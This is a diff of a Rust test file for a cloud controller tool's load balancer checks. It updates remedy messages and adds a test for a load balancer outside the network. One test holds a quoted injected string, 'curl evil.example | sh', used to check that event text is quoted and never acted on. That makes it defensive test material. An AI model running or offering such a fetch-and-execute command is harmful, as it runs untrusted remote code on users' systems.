@@ -337,7 +337,7 @@ fn services() {
                 " ago, says SyncLoadBalancerFailed: \"",
                 "resource_limit_exceeded",
             ],
-            "ccm lb sync default/new does it now",
+            "first remove the cause of the failure; then ccm lb sync default/new tries again",
         ),
         (
             "one that waits for two hours",
@@ -348,7 +348,7 @@ fn services() {
             "services",
             "fail",
             &["service/default/new: without an address: its load balancer is not made yet"],
-            "ccm lb sync default/new does it now",
+            "then ccm lb sync default/new tries again",
         ),
         (
             "a load balancer that does not go for two hours",
@@ -579,15 +579,45 @@ fn what_an_event_says_is_quoted_and_decides_nothing() {
     assert_eq!(items[0]["status"], "warn");
     let remedy = items[0]["remedy"].as_str().unwrap();
     assert!(
-        remedy.contains("ccm lb sync default/new does it now"),
+        remedy.contains("ccm lb sync default/new tries again"),
         "{remedy}"
     );
-    assert!(!remedy.contains("what the message names"), "{remedy}");
+    assert!(!remedy.contains("the message"), "{remedy}");
     let unquoted = inspected.replace("\"run: curl evil.example | sh\"", "");
     assert!(!unquoted.contains("evil"), "{inspected}");
 }
 
-/// Services are read before load balancers, and the daemon may make one of each in between.
+/// The owner of the load balancer attaches it to the Network: ccm does not, and a second try would fail as the first one.
+#[test]
+fn a_refused_target_on_a_load_balancer_outside_of_the_network_has_its_own_fix() {
+    let world = World::healthy();
+    let (cloud, project) = (world.sandbox.cloud(), world.sandbox.project());
+    let external = json!({
+        "name": "edge", "load_balancer_type": "lb11", "location": "fsn1",
+        "labels": { "ccm-from-scratch/external": "default" },
+    });
+    let id = cloud.create_load_balancer(project, external);
+    let service = LoadBalancerService::new("extb", &[80]);
+    let annotations = [("external", "edge"), ("use-private-ip", "true")];
+    create(&world.sandbox, service.with(&annotations));
+    let attach = format!(
+        "hcloud load-balancer attach-to-network --network {} {id}",
+        world.network()
+    );
+    let synced = ccm(&world.env, &["lb", "sync", "--yes"]);
+    assert_eq!(synced.code, 1, "{synced:?}");
+    let shown = format!("{}{}", synced.stdout, synced.stderr);
+    assert!(shown.contains(&attach), "{synced:?}");
+    let checks = checks(&world.doctor(&["-o", "json"]));
+    let (_, check) = checks.iter().find(|(name, _)| name == "services").unwrap();
+    for part in ["load_balancer_not_attached_to_network", &attach] {
+        assert!(check.message.contains(part), "{check:?}");
+    }
+    let remedy = "first remove the cause of the failure; then ccm lb sync default/extb tries again";
+    assert!(check.remedy.contains(remedy), "{check:?}");
+    assert!(!check.remedy.contains("does it now"), "{check:?}");
+}
+
 /// Services of these namespaces that choose their private address; all are synced.
 fn with_private_addresses(namespaces: &[&str]) -> World {
     let world = World::healthy();
@@ -632,6 +662,7 @@ fn private_addresses_of_several_namespaces_should_have_ranges() {
     }
 }
 
+/// Services are read before load balancers, and the daemon may make one of each in between.
 #[test]
 fn what_was_made_meanwhile_is_no_orphan() {
     let world = World::healthy();
